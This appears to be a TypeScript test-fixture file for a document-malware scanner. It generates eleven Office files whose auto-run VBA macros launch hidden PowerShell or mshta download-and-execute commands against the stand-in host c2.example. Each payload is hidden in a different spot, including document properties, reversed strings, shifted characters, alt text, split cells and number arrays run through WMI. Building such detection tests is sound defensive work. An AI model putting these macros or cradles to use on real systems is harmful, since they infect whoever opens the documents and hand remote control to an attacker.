// Documents whose macros start programs, most of them with a payload that stands elsewhere in the document.
import { excelWorkbook, paragraph, wordBinary, wordDocument } from '../../file/traits/write-office.ts'
import type { HarmfulScript } from './script-case.ts'

const C2 = 'http://c2.example/'
const cradle = (name: string): string =>
  `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('${C2}${name}')"`
const xml = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')
const found = (name: string) => ({
  ids: ['trace_document_starts_program', 'trace_downloads_and_runs', 'trace_hides_powershell'],
  attack: ['T1204.002', 'T1059.005'],
  urls: [`${C2}${name}`],
  commands: ['powershell -nop -w hidden'],
})
const macro = (source: string) => [{ name: 'ThisDocument', source }]
const word = (source: string, body = paragraph('Please enable content'), extra = {}): Buffer =>
  wordDocument(body, extra, macro(source))
const reversed = (text: string): string => [...text].reverse().join('')
const cell = (address: string, text: string): string =>
  `<c r="${address}" t="inlineStr"><is><t>${xml(text)}</t></is></c>`

export const harmfulMacros: readonly HarmfulScript[] = [
  {
    name: 'a command in the open',
    file: 'plain.docm',
    source: word(`Sub AutoOpen()\nShell ${JSON.stringify(cradle('m0')).replaceAll('\\"', '""')}, vbHide\nEnd Sub`),
    ...found('m0'),
  },
  {
    name: 'a command in the comments of the document',
    file: 'comments.docm',
    source: word(
      'Sub Document_Open()\nCreateObject("WScript.Shell").Run ActiveDocument.BuiltInDocumentProperties("Comments").Value, 0\nEnd Sub',
      undefined,
      {
        'docProps/core.xml': `<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:title>Invoice</dc:title><dc:description>${xml(cradle('m1'))}</dc:description></cp:coreProperties>`,
      },
    ),
    ...found('m1'),
  },
  {
    name: 'a command in a property of its own, reversed',
    file: 'custom.docm',
    source: word(
      'Sub AutoOpen()\nDim s\ns = ActiveDocument.CustomDocumentProperties("key")\nSet o = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")\no.Run StrReverse(s), 0\nEnd Sub',
      undefined,
      {
        'docProps/custom.xml': `<Properties xmlns:vt="v"><property fmtid="{1}" pid="2" name="key"><vt:lpwstr>${xml(reversed(cradle('m2')))}</vt:lpwstr></property></Properties>`,
      },
    ),
    ...found('m2'),
  },
  {
    name: 'a command in a variable of the document',
    file: 'variable.docm',
    source: word('Sub Document_Open()\nShell ActiveDocument.Variables("v1").Value, 0\nEnd Sub', undefined, {
      'word/settings.xml': `<w:settings xmlns:w="w"><w:docVars><w:docVar w:name="v1" w:val="${xml(cradle('m3'))}"/></w:docVars></w:settings>`,
    }),
    ...found('m3'),
  },
  {
    name: 'a command in the text, between marks',
    file: 'text.docm',
    source: word(
      'Sub AutoOpen()\nDim t\nt = ActiveDocument.Content.Text\nShell Split(Split(t, "[[")(1), "]]")(0), 0\nEnd Sub',
      `${paragraph('Dear all')}${paragraph(`[[${xml(cradle('m4'))}]]`)}`,
    ),
    ...found('m4'),
  },
  {
    name: 'a command in a paragraph, characters moved by one',
    file: 'paragraph.docm',
    source: word(
      'Sub AutoOpen()\nDim s, r, i\ns = ActiveDocument.Paragraphs(2).Range.Text\nFor i = 1 To Len(s) - 1\nr = r & Chr(Asc(Mid(s, i, 1)) - 1)\nNext\nShell r, 0\nEnd Sub',
      `${paragraph('Dear all')}${paragraph(xml([...cradle('m5')].map((char) => String.fromCharCode(char.charCodeAt(0) + 1)).join('')))}`,
    ),
    ...found('m5'),
  },
  {
    name: 'a command in the alternative text of a picture',
    file: 'alt.docm',
    source: word(
      'Sub Document_Open()\nShell ActiveDocument.Shapes("img1").AlternativeText, 0\nEnd Sub',
      `<w:p><w:r><w:drawing><wp:docPr id="1" name="img1" descr="${xml(cradle('m6'))}"/></w:drawing></w:r></w:p>`,
    ),
    ...found('m6'),
  },
  {
    name: 'a command in cells of a sheet',
    file: 'cells.xlsm',
    source: excelWorkbook(
      {
        'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row r="7">${cell('B7', cradle('m7').slice(0, 20))}${cell('C7', cradle('m7').slice(20))}</row></sheetData></worksheet>`,
      },
      {
        macros: [
          {
            name: 'ThisWorkbook',
            source: 'Sub Workbook_Open()\nShell Sheets("Sheet1").Range("B7").Value & Cells(7, 3).Value, 0\nEnd Sub',
          },
        ],
      },
    ),
    ...found('m7'),
  },
  {
    name: 'a command in a caption of a form',
    file: 'form.doc',
    source: wordBinary('Please enable content', macro('Sub AutoOpen()\nShell UserForm1.Label1.Caption, 0\nEnd Sub'), [
      {
        name: 'UserForm1',
        children: [
          { name: 'f', bytes: Buffer.from('\0\u0004Label1\0\0', 'latin1') },
          { name: 'o', bytes: Buffer.from(`\0\u0001${cradle('m8')}\0\0\u0005Tahoma\0`, 'latin1') },
        ],
      },
    ]),
    ...found('m8'),
  },
  {
    name: 'a script written by number and started by the shell object',
    file: 'drop.docm',
    source: word(
      `Sub AutoOpen()\nDim p\np = Environ("APPDATA") & "\\u.vbs"\nOpen p For Output As #1\nPrint #1, "CreateObject(""WScript.Shell"").Run ""mshta ${C2}m9.hta"", 0"\nClose #1\nCreateObject("Shell.Application").ShellExecute "wscript.exe", p, "", "open", 0\nEnd Sub`,
    ),
    ids: ['trace_document_starts_program', 'trace_runs_dropped_program', 'trace_abuses_system_tool'],
    files: ['\\u.vbs'],
    commands: ['wscript.exe', `mshta ${C2}m9.hta`],
  },
  {
    name: 'only after closing, by WMI, in an array of numbers',
    file: 'close.docm',
    source: word(
      `Sub Document_Close()\nDim a, c, s\na = Array(${[...cradle('m10')].map((char) => char.charCodeAt(0) * 2 + 1).join(', ')})\nFor Each c In a\ns = s & Chr((c - 1) / 2)\nNext\nGetObject("winmgmts:").Get("Win32_Process").Create s, Null, Null, i\nEnd Sub`,
    ),
    ...found('m10'),
    ids: ['trace_document_starts_program', 'trace_starts_process_indirectly', 'trace_downloads_and_runs'],
  },
]
